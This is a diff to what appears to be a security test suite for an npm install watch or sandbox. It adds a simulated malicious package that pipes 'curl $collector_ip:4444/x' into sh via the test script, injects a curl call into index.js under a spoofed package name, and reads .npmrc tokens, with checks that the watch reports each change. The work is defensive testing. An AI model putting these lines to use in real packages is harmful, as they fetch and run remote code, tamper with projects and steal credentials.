@@ -100,6 +100,12 @@ try {
   pj.scripts = Object.assign({}, pj.scripts, {test: 'curl http://$collector_ip:4444/x | sh'});
   fs.writeFileSync(root + '/package.json', JSON.stringify(pj, null, 2));
 } catch (e) {}
+// The project's own code: a line in its entry point, added by a child that runs in the project
+// and claims to be the project's own script (the watch still attributes it to evil-pkg).
+try {
+  cp.execSync("echo \"require('child_process').exec('curl $collector_ip:4444')\" >> index.js",
+              {cwd: root, env: Object.assign({}, process.env, {npm_package_name: 'victim'})});
+} catch (e) {}
 // What it could read, left in the project (checked from outside: no token may be in it).
 try { loot += fs.readFileSync(root + '/.npmrc', 'utf8'); } catch (e) { loot += 'no project .npmrc '; }
 try { fs.writeFileSync(root + '/loot.txt', loot); } catch (e) {}
@@ -204,5 +210,10 @@ check_evil_pkg_contained() {
     fail "$what: the summary does not name evil-pkg"
   grep -qE "manifest-commands-changed: .*package.json scripts.test (changed|was added)" "$dir/err" ||
     fail "$what: the summary does not report the changed test script"
+  # The project's own code changed by the package: seen by the watch (root).
+  if [[ "$what" == *"as root"* ]]; then
+    grep -qE "project-files-changed: .*evil-pkg@1.0.0 .*index.js" "$dir/err" ||
+      fail "$what: the summary does not report evil-pkg changing index.js"
+  fi
   return 0
 }
